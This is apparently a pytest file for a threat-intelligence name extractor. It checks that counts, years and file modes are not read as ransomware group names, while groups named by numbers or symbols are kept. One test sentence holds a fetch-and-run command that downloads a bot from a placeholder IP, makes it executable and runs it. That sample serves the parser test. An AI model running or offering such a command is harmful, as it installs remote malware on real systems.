"""A number is no threat's name: the shapes that read "the X ransomware" or "X ransomware gangs" read
a count ("15 ransomware gangs"), a year ("the March 2021 ransomware attack") and a file mode ("chmod
777", a galaxy's ransomware name) as a brand. A group named by a number elsewhere stays one, as a handle made of signs does. Sentences are ours."""

from __future__ import annotations

import pytest

from veilleur.enrich.actors import find_threats
from veilleur.enrich.threat_numbers import number_no_name


def _names(text: str) -> tuple[list[str], list[str]]:
    actors, malware = find_threats(text)
    return [a.name for a in actors], [m.name for m in malware]


@pytest.mark.parametrize(
    "text",
    [
        "Weekly brief 12 ransomware gangs say they are shutting down and will stop extorting hospitals.",
        "The outage was dwarfed by the March 2021 ransomware attack that exposed millions of customers.",
        "The script runs wget http://203.0.113.9/bot; chmod 777 bot; ./bot to install the payload.",
    ],
)
def test_a_number_is_no_threat(text: str) -> None:
    actors, malware = _names(text)
    assert not [n for n in actors + malware if n.strip("0123456789 ") == ""], (actors, malware)


def test_a_group_named_by_a_number_elsewhere_is_not_dropped() -> None:
    text = "Members of the 515 network groomed teenagers, and 515 claimed the breach on its channel."
    assert not number_no_name("515", text)
    assert number_no_name("515", "Officials said 515 ransomware gangs were active last year.")


def test_a_handle_of_signs_stays_a_name() -> None:
    actors, _ = _names(
        "The ransomware was promoted on a forum by the threat actor known as '$$$', researchers said."
    )
    assert "$$$" in actors


@pytest.mark.parametrize(
    "text",
    [
        "The ransomware gang stole 418,777 patient records from the clinic, the hospital said.",
        "Attackers exfiltrated 1.777.000 files before encrypting the servers of the city.",
        "The breach exposed 777,120 customers, the ransomware operators claimed on their leak site.",
    ],
)
def test_a_groups_number_inside_a_count_is_no_threat(text: str) -> None:
    actors, malware = _names(text)
    assert "777" not in actors + malware, (actors, malware)


def test_a_group_named_by_its_number_stays_beside_a_count() -> None:
    actors, _ = _names("The 777 ransomware gang claimed the attack and leaked 418,000 records.")
    assert "777" in actors
